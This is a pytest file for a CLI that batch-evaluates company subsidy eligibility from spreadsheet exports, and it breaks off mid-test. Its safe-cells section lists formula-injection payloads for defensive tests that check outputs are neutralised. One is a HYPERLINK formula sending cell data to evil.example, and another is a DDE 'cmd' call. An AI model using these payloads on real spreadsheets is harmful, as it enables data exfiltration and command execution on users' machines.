"""batch with files made the way Excel and WPS make them (issue 10).

Every good row written with its own row number, every bad row reported with
its spreadsheet line and company name; no cell Excel would run as a formula;
output files and pipes handled safely; .xlsx in and out.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from nanchang_incentives import api, csvio, xlsxio
from nanchang_incentives.batch import BAD_ROW_PREVIEW, BatchOptions, run_batch
from nanchang_incentives.cli import app
from nanchang_incentives.errors import InputError

HEADER = "name,jurisdiction,year,revenue,open_source_products,smart_factory_investments"
WUHAN = "wuhan-east-lake"


@pytest.fixture(scope="module")
def catalog():
    return api.load()


def read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def good_row(i: int) -> str:
    return f"公司{i},{WUHAN},2024,{i}万,,"


# ---------------------------------------------------------------- 1. no row lost or renumbered


def test_an_overflowing_row_among_100000_good_rows_is_one_bad_row(catalog, tmp_path):
    rows = [good_row(i) for i in range(1, 100_002)]
    # 10,000,000 open-source products × 50万 each (Wuhan §2(3)) = 5万亿亿 yuan: beyond 10万亿
    rows[49_999] = f"溢出公司,{WUHAN},2024,1亿,10000000,"
    src = tmp_path / "big.csv"
    src.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "out.csv", catalog, errors_path=tmp_path / "bad.csv")
    assert (report.rows, report.good_rows, report.bad_rows, report.output_rows) == (100_001, 100_000, 1, 100_000)
    out = read(tmp_path / "out.csv")
    assert [int(r["row"]) for r in out] == [k for k in range(1, 100_002) if k != 50_000]
    assert out[49_999]["name"] == "公司50001"  # the row after the bad one keeps its number
    (bad,) = read(tmp_path / "bad.csv")
    assert (bad["row"], bad["line"], bad["name"], bad["field"], bad["value"]) == (
        "50000", "50001", "溢出公司", "open_source_products", "10000000")
    assert "clause open_source_product: an amount of more than 10,000,000,000,000 yuan" in bad["message"]


def test_a_list_whose_sum_overflows_is_a_bad_row(catalog, tmp_path):
    # eleven 99999亿 smart-factory projects: each within the limit, the list's raw sum is not
    src = tmp_path / "a.csv"
    src.write_text("name,jurisdiction,year,smart_factory_investments\n"
                   f"十一个项目,nanchang,2024,{';'.join(['99999亿'] * 11)}\n"
                   "正常公司,nanchang,2024,300万\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.good_rows, report.bad_rows) == (1, 1)
    p = report.problems[0]
    assert (p.row, p.line, p.name, p.field) == (1, 2, "十一个项目", "smart_factory_investments")
    assert "clause smart_factory" in p.message
    assert [r["row"] for r in read(tmp_path / "o.csv")] == ["2"]


def test_a_stray_quote_in_a_20000_row_file_loses_only_its_row(catalog, tmp_path):
    rows = [good_row(i) for i in range(1, 20_001)]
    rows[1] = '"' + rows[1]  # a quote that opens a cell and never closes
    src = tmp_path / "q.csv"
    src.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "out.csv", catalog, errors_path=tmp_path / "bad.csv")
    assert (report.good_rows, report.bad_rows) == (19_999, 1)
    out = read(tmp_path / "out.csv")
    assert [int(r["row"]) for r in out] == [1, *range(3, 20_001)]
    assert all(r["name"] == f"公司{r['row']}" for r in out)  # every result is tied to its own company
    (bad,) = read(tmp_path / "bad.csv")
    assert (bad["row"], bad["line"], bad["name"]) == ("2", "3", "公司2")
    assert "a quote (\") opens a cell on this line" in bad["message"]


def test_two_stray_quotes_close_to_each_other_resynchronise(catalog, tmp_path):
    src = tmp_path / "q.csv"
    src.write_text(HEADER + "\n" + "\n".join([
        good_row(1), f'"甲,{WUHAN},2024,1万,,', f'乙"x,{WUHAN},2024,1万,,', good_row(4)]) + "\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "out.csv", catalog)
    # row 2 opens a quote that row 3 "closes": row 2 is bad, row 3 (a literal quote inside a cell) is read
    assert [r["row"] for r in read(tmp_path / "out.csv")] == ["1", "3", "4"]
    assert [(p.row, p.line) for p in report.problems] == [(2, 3)]


def test_a_cell_with_line_breaks_keeps_its_record_on_one_spreadsheet_line(catalog, tmp_path):
    """SPEC 9.4: the line as Excel or WPS shows it; a quoted cell's line breaks (Alt+Enter) stay in its row."""
    src = tmp_path / "a.csv"
    src.write_text(HEADER + "\n" + f'"两行\n名称",{WUHAN},2024,1万,,\n' + f"坏公司,{WUHAN},2024,-5,,\n",
                   encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    (p,) = report.problems
    assert (p.row, p.line, p.name, p.field, p.value) == (2, 3, "坏公司", "revenue", "-5")


@pytest.mark.parametrize("jobs", [1, 2])
def test_every_line_is_its_row_plus_one_however_the_blocks_fall(catalog, tmp_path, jobs):
    """Many cells with line breaks, blank records and bad rows, cut into small blocks (and worker processes):
    the spreadsheet line of every problem is its data row + 1, as in the sheet Excel opens."""
    rows = []
    for i in range(1, 3001):
        name = f'"公司{i}\n第二行\n第三行"' if i % 3 == 0 else f"公司{i}"
        rows.append("" if i % 7 == 0 else f"{name},{WUHAN},2024,{'-5' if i % 5 == 0 else '1万'},,")
    src = tmp_path / "many.csv"
    src.write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    run_batch(src, tmp_path / "o.csv", catalog, BatchOptions(jobs=jobs, block_bytes=4 << 10),
              errors_path=tmp_path / "e.csv")
    problems = read(tmp_path / "e.csv")
    bad = [i for i in range(1, 3001) if i % 5 == 0 and i % 7]
    assert [int(p["row"]) for p in problems] == bad
    assert all(int(p["line"]) == int(p["row"]) + 1 for p in problems)
    assert [p["name"] for p in problems][:3] == ["公司5", "公司10", "公司15\n第二行\n第三行"]


@pytest.mark.parametrize("header", [
    'name,"jurisdiction\n",year,revenue,open_source_products,"smart_factory\n_investments"',
    'name,jurisdiction,year,"营业\r\n收入",open_source_products,smart_factory_investments',
])
def test_a_heading_with_a_line_break_is_one_heading(catalog, tmp_path, header):
    """Excel writes a heading typed with Alt+Enter in quotes, line break included: the header is one record,
    the heading its text without the line breaks, and the rows keep their numbers and lines."""
    src = tmp_path / "h.csv"
    src.write_text(header + "\n" + good_row(1) + "\n" + f"坏公司,{WUHAN},2024,-5,,\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert [r["row"] for r in read(tmp_path / "o.csv")] == ["1"]
    assert [(p.row, p.line, p.name, p.field) for p in report.problems] == [(2, 3, "坏公司", "revenue")]


def test_a_heading_whose_quote_never_closes_is_named(catalog, tmp_path):
    src = tmp_path / "h.csv"
    src.write_text('name,"jurisdiction,year,revenue\n' + good_row(1) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match="opens a heading that never closes") as info:
        run_batch(src, tmp_path / "o.csv", catalog)
    assert info.value.location.line == 1
    assert not (tmp_path / "o.csv").exists()


def test_a_long_cell_is_clipped_in_messages(catalog, tmp_path):
    src = tmp_path / "a.csv"
    src.write_text(HEADER + "\n" + f"长,{WUHAN},2024,{'9' * 500_000}x,,\n", encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
    assert report.bad_rows == 1 and len(report.problems[0].value) <= 200
    assert (tmp_path / "bad.csv").stat().st_size < 2_000


# ---------------------------------------------------------------- 2. safe cells

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd",
              "  =1+1"]


def test_formula_like_names_are_written_with_a_leading_quote(catalog, tmp_path):
    src = tmp_path / "a.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["name", "jurisdiction", "year", "revenue"])
        for name in INJECTIONS:
            w.writerow([name, WUHAN, 2024, "1万"])
            w.writerow([name, WUHAN, 2024, "-1"])  # a bad row: its name and value go to the errors file
        w.writerow(["\t=1+1", WUHAN, 2024, "1万"])
    run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
    names = [r["name"] for r in read(tmp_path / "o.csv")]
    # names are trimmed (as in calc), then guarded
    assert names == ["'" + n.strip() for n in INJECTIONS] + ["'=1+1"]
    errors = [e for e in read(tmp_path / "bad.csv") if not e["message"].startswith("warning:")]
    assert [e["name"] for e in errors] == ["'" + n.strip() for n in INJECTIONS]
    assert {e["value"] for e in errors} == {"'-1"}
    # "\t=1+1" is "=1+1" once trimmed: the same company as an earlier row, which the warning says, guarded too
    [repeat] = [e for e in read(tmp_path / "bad.csv") if e["message"].startswith("warning:")]
    assert (repeat["name"], repeat["value"]) == ("'=1+1", "'=1+1")
    assert "the same company as line" in repeat["message"]
    raw = (tmp_path / "o.csv").read_text(encoding="utf-8") + (tmp_path / "bad.csv").read_text(encoding="utf-8")
    for record in csv.reader(io.StringIO(raw)):
        assert all(not c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") for c in record)


def test_no_xlsx_cell_is_a_formula(catalog, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    src = tmp_path / "a.csv"
    with open(src, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["name", "jurisdiction", "year"])
        for name in INJECTIONS:
            w.writerow([name, WUHAN, 2024])
    run_batch(src, tmp_path / "o.xlsx", catalog, BatchOptions(fmt="xlsx"))
    ws = openpyxl.load_workbook(tmp_path / "o.xlsx")["results"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)  # never "f" (a formula)
    assert [ws.cell(r, 2).value for r in range(2, 7)] == [n.strip() for n in INJECTIONS]  # text kept as typed


# ---------------------------------------------------------------- 3. safe output files, pipes


def write_good(path: Path, n: int = 3, encoding: str = "utf-8", newline: str = "\n") -> Path:
    path.write_bytes((HEADER + newline + newline.join(good_row(i) for i in range(1, n + 1)) + newline)
                     .encode(encoding))
    return path


def test_existing_permission_bits_are_kept(catalog, tmp_path):
    out = tmp_path / "r.csv"
    out.write_text("old\n")
    os.chmod(out, 0o600)
    run_batch(write_good(tmp_path / "a.csv"), out, catalog)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600 and out.read_text().startswith("row,")


def test_devices_fifos_and_directories_are_refused(catalog, tmp_path):
    src = write_good(tmp_path / "a.csv")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for target, says in ((Path("/dev/zero"), "--output is a device"), (fifo, "--output is a named pipe"),
                         (tmp_path, "--output is a directory")):
        with pytest.raises(InputError, match=says):
            run_batch(src, target, catalog)
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    # a directory: the advice names a file in it; only --output may go to standard output
    with pytest.raises(InputError) as caught:
        run_batch(src, tmp_path / "r.csv", catalog, errors_path=tmp_path)
    assert caught.value.message == (f"--errors is a directory; batch only writes regular files; name a file in it, "
                                    f"e.g. --errors {tmp_path / 'bad_rows.csv'}")
    with pytest.raises(InputError) as caught:
        run_batch(src, tmp_path, catalog)
    assert caught.value.message.endswith(f"(or standard output: -o -); name a file in it, e.g. --output "
                                         f"{tmp_path / 'results.csv'}")


def test_dev_null_is_written_to_and_left_a_device(catalog, tmp_path):
    report = run_batch(write_good(tmp_path / "a.csv"), Path(os.devnull), catalog)
    assert report.good_rows == 3 and stat.S_ISCHR(os.stat(os.devnull).st_mode)


def test_a_device_as_input_is_a_message(catalog, tmp_path):
    with pytest.raises(InputError, match="the input is a device"):
        run_batch("/dev/zero", tmp_path / "o.csv", catalog)


@pytest.mark.parametrize("name, says", [
    ("clients.xls", ("is an Excel 97–2003 (.xls) or WPS (.et) workbook, which is not read: open it in Excel or WPS "
                    "and save it as 'Excel 工作簿 (*.xlsx)'")),
    ("clients.et", "is an Excel 97–2003 (.xls) or WPS (.et) workbook"),
    ("clients", "is an Excel 97–2003 (.xls) or WPS (.et) workbook"),
    ("clients.xlsx", ("is a password-protected workbook (or an old .xls renamed), which cannot be read: open it in "
                     "Excel or WPS, remove the password")),
])
def test_an_old_or_encrypted_workbook_says_what_to_do(catalog, tmp_path, name, says):
    """An OLE2 Compound File (.xls, .et, an .xlsx saved with a password) was called "not UTF-8 text" with advice
    about CSV encodings, or "not a zip file"."""
    src = tmp_path / name
    src.write_bytes(xlsxio.OLE2_MAGIC + bytes(504) + "\u5de5\u4f5c\u7c3f".encode("utf-16-le") * 100)
    with pytest.raises(InputError) as exc:
        run_batch(src, tmp_path / "o.csv", catalog)
    assert says in str(exc.value) and str(exc.value).startswith(f"{src}: ")
    assert not (tmp_path / "o.csv").exists()
    res = CliRunner().invoke(app, ["batch", "-", "-o", str(tmp_path / "p.csv")], input=src.read_bytes(),
                             env={"NO_COLOR": "1", "COLUMNS": "200"})
    assert res.exit_code == 1 and "<stdin>: is " in res.stderr and "Traceback" not in res.output


@pytest.mark.parametrize("data, says", [
    ("name,jurisdiction,year\nA,nanchang,2024\n".encode("utf-16"), "<stdin>: the file is UTF-16 text"),
    (b"PK\x03\x04" + bytes(100), "<stdin>: not a readable .xlsx workbook: the file begins as a zip file"),
])
def test_a_problem_of_standard_input_names_stdin_not_its_temporary_copy(tmp_path, data, says):
    """Standard input is read from a temporary copy; its messages said "/tmp/incentives-input-….part", a file the
    user never named and that is gone once the command ends."""
    res = CliRunner().invoke(app, ["batch", "-", "-o", str(tmp_path / "p.csv")], input=data,
                             env={"NO_COLOR": "1", "COLUMNS": "300"})
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.startswith(f"error: {says}") and "incentives-input-" not in res.stderr


def test_stdin_in_and_stdout_out(tmp_path):
    data = write_good(tmp_path / "a.csv").read_bytes()
    res = CliRunner().invoke(app, ["batch", "-", "-o", "-", "--no-bom"], input=data,
                             env={"NO_COLOR": "1", "COLUMNS": "200"})
    assert res.exit_code == 0, res.output
    lines = res.stdout.splitlines()
    assert lines[0].startswith("row,name,warnings,policy") and [ln.split(",")[0] for ln in lines[1:4]] == ["1", "2", "3"]
    assert "3 rows read" in res.stderr and "3 rows read" not in res.stdout  # the summary goes to stderr
    assert not (tmp_path / "-").exists()


def test_pipes_and_fifos_as_real_processes(tmp_path):
    src = write_good(tmp_path / "a.csv")
    cmd = [sys.executable, "-m", "nanchang_incentives", "batch"]
    with open(src, "rb") as f:
        piped = subprocess.run([*cmd, "/dev/stdin", "-o", "/dev/stdout", "-q"], stdin=f, capture_output=True,
                               timeout=120, check=False)
    assert piped.returncode == 0, piped.stderr
    assert piped.stdout.decode().splitlines()[1].startswith("1,公司1,")
    fifo = tmp_path / "in.fifo"
    os.mkfifo(fifo)
    proc = subprocess.Popen([*cmd, str(fifo), "-o", str(tmp_path / "o.csv"), "-q"], stderr=subprocess.PIPE)
    with open(fifo, "wb") as w:
        w.write(src.read_bytes())
    assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else ""
    assert len(read(tmp_path / "o.csv")) == 3


def _children(pid: int) -> list[int]:
    try:
        return [int(x) for x in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="reads the process tree from /proc (Linux)")
def test_kill_9_of_the_main_process_leaves_no_worker(tmp_path):
    src = write_good(tmp_path / "a.csv", n=400_000)
    proc = subprocess.Popen([sys.executable, "-m", "nanchang_incentives", "batch", str(src), "-o",
                             str(tmp_path / "o.csv"), "--jobs", "2", "-q", "--layout", "long"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: list[int] = []
    deadline = time.monotonic() + 60
    while not workers and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
        workers = _children(proc.pid)
    assert workers, "the run ended before its workers could be seen"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 10
    alive = workers
    while alive and time.monotonic() < deadline:
        time.sleep(0.1)
        alive = [w for w in workers if Path(f"/proc/{w}").exists()
                 and "Z" not in Path(f"/proc/{w}/stat").read_text().split(")")[-1][:3]]
    assert alive == []


# ---------------------------------------------------------------- 4. Excel and WPS as they are


def test_gbk_crlf_with_blank_and_totals_rows_as_excel_saves_it(catalog, tmp_path):
    text = ("name,jurisdiction,year,revenue,open_source_products,smart_factory_investments\r\n"
            f"{good_row(1)}\r\n,,,,,\r\n{good_row(3)}\r\n合计,,,4万,,\r\n,,,,,\r\n,,,,,\r\n")
    src = tmp_path / "gbk.csv"
    src.write_bytes(text.encode("gbk"))
    report = run_batch(src, tmp_path / "o.csv", catalog, errors_path=tmp_path / "bad.csv")
    assert (report.encoding, report.good_rows, report.bad_rows) == ("GB18030", 2, 0)
    assert (report.blank_rows, report.skipped_rows) == (3, 1)
    assert [(k.row, k.line, k.name, k.reason) for k in report.skipped] == [(4, 5, "合计", csvio.SkipReason.TOTALS)]
    # GBK in -> UTF-8 with a BOM out, which Chinese Excel opens as text it can read
    assert (tmp_path / "o.csv").read_bytes().startswith(b"\xef\xbb\xbfrow,name,")
    assert report.output_encoding == "UTF-8 with BOM"
    assert [r["row"] for r in read(tmp_path / "o.csv")] == ["1", "3"]
    # with --year and --policy, blank and totals rows are still never evaluated
    again = run_batch(src, tmp_path / "p.csv", catalog, BatchOptions(year=2024, policy_ids=(
        "wuhan-east-lake-software-2023",)))
    assert (again.good_rows, again.blank_rows, again.skipped_rows) == (2, 3, 1)


@pytest.mark.parametrize("kind", ["csv", "xlsx", "parquet"])
def test_a_row_of_spaces_looks_empty_and_is_a_blank_row(catalog, tmp_path, kind, write_sheet):
    """Spaces (ASCII or full-width) in every cell: Excel shows an empty row; never a bad row, never a company,
    also under --year and --policy (which would otherwise evaluate a nameless phantom)."""
    header = ["name", "jurisdiction", "year", "revenue", "open_source_products", "smart_factory_investments"]
    rows = [good_row(1).split(","), [" "] * 6, ["\u3000" * 12, "", "", " " * 40, "", ""], good_row(4).split(",")]
    src = tmp_path / f"in.{kind}"
    write_sheet(src, header, rows)
    for options in (BatchOptions(), BatchOptions(year=2024, policy_ids=("wuhan-east-lake-software-2023",))):
        report = run_batch(src, tmp_path / "o.csv", catalog, options)
        assert (report.good_rows, report.bad_rows, report.blank_rows) == (2, 0, 2), kind
        assert [r["row"] for r in read(tmp_path / "o.csv")] == ["1", "4"]


def test_only_a_name_like_a_total_with_neither_year_nor_jurisdiction_is_a_totals_row(catalog, tmp_path):
    text = ("name,jurisdiction,year,revenue\n"
            "GRAND TOTAL,,,9万\n"  # English, upper case: skipped
            "总计(含税),,,9万\n"  # the word inside a longer name: skipped
            "Total Robotics Ltd,北京,2024,1万\n"  # a company whose name has the word: evaluated
            "小计科技,,2024,1万\n")  # the word in a name, and a year: a company's row (bad: no jurisdiction)
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert [(k.row, k.line, k.name) for k in report.skipped] == [(1, 2, "GRAND TOTAL"), (2, 3, "总计(含税)")]
    assert [r["name"] for r in read(tmp_path / "o.csv")][:1] == ["Total Robotics Ltd"]
    assert (report.good_rows, report.bad_rows, report.skipped_rows) == (1, 1, 2)
    assert [(p.row, p.line, p.name) for p in report.problems] == [(4, 5, "小计科技")]


def test_a_name_that_is_only_a_totals_label_is_skipped_with_year_and_place_filled_down(catalog, tmp_path):
    # 年度 and 所在地 filled down the whole sheet, the totals row included: it was evaluated as a company (the
    # budget then counted the two companies twice); CSV, .xlsx and Parquet skip the same rows
    text = ("企业名称,所在地,年度,行业,营业收入,上年营业收入\n"
            "甲公司,南昌,2024,电子信息,25亿,22亿\n乙公司,南昌,2024,电子信息,25亿,22亿\n"
            "合 计：,南昌,2024,电子信息,50亿,44亿\n小计,南昌,2024,电子信息,50亿,44亿\n"
            "Grand Total,南昌,2024,电子信息,50亿,44亿\nTotal Solutions,南昌,2024,电子信息,5亿,4亿\n")
    src = tmp_path / "t.csv"
    src.write_text(text, encoding="utf-8")
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert [(k.row, k.line, k.name) for k in report.skipped] == [(3, 4, "合 计："), (4, 5, "小计"),
                                                                (5, 6, "Grand Total")]
    assert [r["name"] for r in read(tmp_path / "o.csv")] == ["甲公司", "乙公司", "Total Solutions"]
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    for line in text.splitlines():
        wb.active.append(line.split(","))
    wb.save(tmp_path / "t.xlsx")
    book = run_batch(tmp_path / "t.xlsx", tmp_path / "x.csv", catalog)
    assert [(k.row, k.name) for k in book.skipped] == [(k.row, k.name) for k in report.skipped]
    import pyarrow as pa
    import pyarrow.parquet as pq

    lines = [line.split(",") for line in text.splitlines()]
    pq.write_table(pa.table({h: [r[i] for r in lines[1:]] for i, h in enumerate(lines[0])}), tmp_path / "t.parquet")
    register = run_batch(tmp_path / "t.parquet", tmp_path / "p.csv", catalog)
    assert [(k.row, k.name) for k in register.skipped] == [(k.row, k.name) for k in report.skipped]


def test_a_totals_label_spread_out_or_called_huizong_is_a_totals_row(catalog, tmp_path):
    """Excel users spread a two-character label over the cell (合  计, 合　计) and WPS's pivot calls it 汇总;
    the CSV and the .xlsx of the same sheet skip the same rows. A company's name with such a word in it
    (汇总科技有限公司, 小计算机有限公司, TotalEnergies) is a company: with no year it is a bad row, never skipped."""
    text, report = one_company_and(catalog, tmp_path, "汇总,,,9万\n合  计,,,9万\n合\u3000计,,,9万\n汇总科技有限公司,,,9万\n"
                                   "小计算机有限公司,,,9万\nTotalEnergies 中国,,,9万\n南昌 Subtotal,,,9万\n")
    assert [(k.row, k.line, k.name) for k in report.skipped] == [
        (2, 3, "汇总"), (3, 4, "合  计"), (4, 5, "合\u3000计"), (8, 9, "南昌 Subtotal")]
    assert sorted({(p.row, p.name) for p in report.problems}) == [
        (5, "汇总科技有限公司"), (6, "小计算机有限公司"), (7, "TotalEnergies 中国")]
    assert_workbook_skips_the_same(catalog, tmp_path, text, report)


@pytest.mark.parametrize("encoding,bom,options,expect_bom", [
    ("utf-8", b"", BatchOptions(), False),
    ("utf-8", b"\xef\xbb\xbf", BatchOptions(), True),
    ("gbk", b"", BatchOptions(bom=False), False),
    ("utf-8", b"", BatchOptions(bom=True), True),
    ("utf-8", b"", BatchOptions(excel=True), True),
])
def test_the_output_bom_follows_the_input_unless_told(catalog, tmp_path, encoding, bom, options, expect_bom):
    src = tmp_path / "a.csv"
    src.write_bytes(bom + write_good(tmp_path / "plain.csv", encoding=encoding).read_bytes())
    run_batch(src, tmp_path / "o.csv", catalog, options, errors_path=tmp_path / "bad.csv")
    for out in (tmp_path / "o.csv", tmp_path / "bad.csv"):
        assert out.read_bytes().startswith(b"\xef\xbb\xbf") == expect_bom


def test_one_gbk_row_among_utf8_rows_is_one_bad_row(catalog, tmp_path):
    src = tmp_path / "mixed.csv"
    src.write_bytes((HEADER + "\n" + good_row(1) + "\n").encode() + good_row(2).encode("gbk") + b"\n"
                    + (good_row(3) + "\n").encode())
    report = run_batch(src, tmp_path / "o.csv", catalog)
    assert (report.encoding, report.good_rows, report.bad_rows) == ("UTF-8", 2, 1)
    assert (report.problems[0].row, report.problems[0].line) == (2, 3)


# ---------------------------------------------------------------- 5. .xlsx in and out


def make_workbook(path: Path) -> None:
    """A consultant's workbook: numbers, amounts with units as text, a percent cell, a date, booleans,
    a formula-looking name kept as text, a blank row and a totals row (XlsxWriter, as Excel stores them)."""
    xlsxwriter = pytest.importorskip("xlsxwriter")
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet("说明").write_string(0, 0, "客户清单见下一页")
    ws = wb.add_worksheet("客户")
    pct = wb.add_format({"num_format": "0.00%"})
    date = wb.add_format({"num_format": "yyyy-mm-dd"})
    cols = ["name", "jurisdiction", "year", "revenue", "rd_expense", "rd_staff", "local_project_loans", "lpr_1y",
            "is_listed", "smart_factory_investments", "revenue_prev", "industries"]
    for c, name in enumerate(cols):
        ws.write_string(0, c, name)
    rows = [
        ["南昌甲电子有限公司", "nanchang", 2024, 150000000, "1200万", 120, 50000000, 0.0345, True, "300万;150万",
         "5000万", "electronic-information"],
        ["=HYPERLINK(\"http://x\")", "nanchang", dt.date(2024, 6, 30), 1234.56, 600000.5, 8, None, None, False,
         None, None, "electronic-information"],
        [None] * 12,
        ["武汉乙软件", "wuhan-east-lake", 2024, "2.5亿", 30000000, 50, None, "3.10%", None, None, None, "software"],
        ["合计", None, None, 400001234.56, None, None, None, None, None, None, None, None],
    ]
    for r, row in enumerate(rows, start=1):
        for c, v in enumerate(row):
            if v is None:
                continue
            if isinstance(v, bool):
                ws.write_boolean(r, c, v)
            elif isinstance(v, dt.date):
                ws.write_datetime(r, c, dt.datetime(v.year, v.month, v.day), date)
            elif isinstance(v, (int, float)):
                ws.write_number(r, c, v, pct if cols[c] == "lpr_1y" else None)
            else:
                ws.write_string(r, c, v)
    wb.close()


CSV_EXPORT = """name,jurisdiction,year,revenue,rd_expense,rd_staff,local_project_loans,lpr_1y,is_listed,\
smart_factory_investments,revenue_prev,industries
南昌甲电子有限公司,nanchang,2024,150000000,1200万,120,50000000,3.45%,TRUE,300万;150万,5000万,electronic-information
"=HYPERLINK(""http://x"")",nanchang,2024,1234.56,600000.5,8,,,FALSE,,,electronic-information
,,,,,,,,,,,
武汉乙软件,wuhan-east-lake,2024,2.5亿,30000000,50,,3.10%,,,,software
合计,,,400001234.56,,,,,,,,
"""


def test_an_xlsx_and_its_csv_export_give_the_same_results(catalog, tmp_path):
    pytest.importorskip("openpyxl")
    book = tmp_path / "clients.xlsx"
    make_workbook(book)
    (tmp_path / "clients.csv").write_text(CSV_EXPORT, encoding="utf-8")
    for layout in ("wide", "long"):
        a = run_batch(book, tmp_path / f"x-{layout}.csv", catalog, BatchOptions(layout=layout, sheet="客户"))
        b = run_batch(tmp_path / "clients.csv", tmp_path / f"c-{layout}.csv", catalog, BatchOptions(layout=layout))
        assert (a.good_rows, a.bad_rows, a.blank_rows, a.skipped_rows) == (3, 0, 1, 1)
        assert (b.good_rows, b.bad_rows, b.blank_rows, b.skipped_rows) == (3, 0, 1, 1)
        assert read(tmp_path / f"x-{layout}.csv") == read(tmp_path / f"c-{layout}.csv")
    wide = {r["row"]: r for r in read(tmp_path / "x-wide.csv")}
    # row 1: growth 1.5亿 − 5000万 = 1亿, exactly at the ≥ 1亿 threshold of 三(一); loans 5000万 × 50% × LPR
    # 3.45% = 862,500.00 (under the 200万 cap); the percent cell is a rate, as the CSV's "3.45%"
    assert wide["1"]["loan_interest"] == "862500.00"
    assert wide["1"]["smart_factory"] == "2250000.00"  # (300万 + 150万) × 50%
    assert wide["2"]["year"] == "2024"  # a date in the year column is its year
    assert list(wide) == ["1", "2", "4"]


def test_xlsx_money_with_more_than_4_decimals_is_a_bad_row(catalog, tmp_path):
    xlsxwriter = pytest.importorskip("xlsxwriter")
    book = tmp_path / "a.xlsx"
    wb = xlsxwriter.Workbook(str(book))
    ws = wb.add_worksheet()
    for c, v in enumerate(["name", "jurisdiction", "year", "revenue"]):
        ws.write_string(0, c, v)
    ws.write_row(1, 0, ["精确", "nanchang", 2024, 1234.56789])
    ws.write_row(2, 0, ["正常", "nanchang", 2024, 1234.5678])
    wb.close()
    report = run_batch(book, tmp_path / "o.csv", catalog)
    assert (report.good_rows, report.bad_rows) == (1, 1)
    p = report.problems[0]
    assert (p.row, p.line, p.name, p.field, p.value) == (1, 2, "精确", "revenue", "1234.56789")


def test_unknown_sheet_is_a_message_with_the_sheet_names(catalog, tmp_path):
    book = tmp_path / "clients.xlsx"
    make_workbook(book)
    with pytest.raises(InputError, match="no sheet named '客'.*'说明', '客户'"):
        run_batch(book, tmp_path / "o.csv", catalog, BatchOptions(sheet="客"))


def test_xlsx_output_is_typed_frozen_filtered_and_has_the_budget(catalog, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    src = tmp_path / "clients.csv"
    src.write_text(CSV_EXPORT, encoding="utf-8")
    run_batch(src, tmp_path / "r.csv", catalog, BatchOptions(bom=False))
    report = run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert wb.sheetnames == ["results", "budget"]
    ws = wb["results"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}4"
    header = [c.value for c in ws[1]]
    rows = [dict(zip(header, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]
    csv_rows = read(tmp_path / "r.csv")
    for x, c in zip(rows, csv_rows):  # the same figures, as numbers formatted #,##0.00
        for key in ("total", "loan_interest", "smart_factory"):
            if c[key]:
                assert f"{x[key]:.2f}" == c[key]
    assert ws.cell(2, header.index("total") + 1).number_format == "#,##0.00"
    assert ws.column_dimensions["B"].width > 10  # fitted to the Chinese names
    budget = [r for r in wb["budget"].iter_rows(values_only=True)]
    total = next(r for r in budget if r[0] == "nanchang-electronic-information-2023" and str(r[1]).startswith("total ("))
    assert round(total[5] * 100) == report.budgets["nanchang-electronic-information-2023"].total


def test_the_xlsx_budget_sheet_shows_up_to_ceilings_as_up_to_and_splits_the_totals(catalog, tmp_path):
    """SPEC §3: an up-to ceiling is never presented as certain. The Beijing sample's 25,200,000.00 is all
    ceilings (key_tech_breakthrough 12,000,000 + major_project_interest 7,200,000 + chain_strengthening 4,000,000
    + first_trial_product 2,000,000 after its 2,650,000 raw hit the clause cap): the sheet's totals say so, as the
    terminal's budget view does, and the cells stay numbers."""
    openpyxl = pytest.importorskip("openpyxl")
    src = Path(__file__).parent.parent / "samples" / "companies.csv"
    report = run_batch(src, tmp_path / "r.xlsx", catalog, BatchOptions(fmt="xlsx"))
    sheet = [r for r in openpyxl.load_workbook(tmp_path / "r.xlsx")["budget"].iter_rows()]
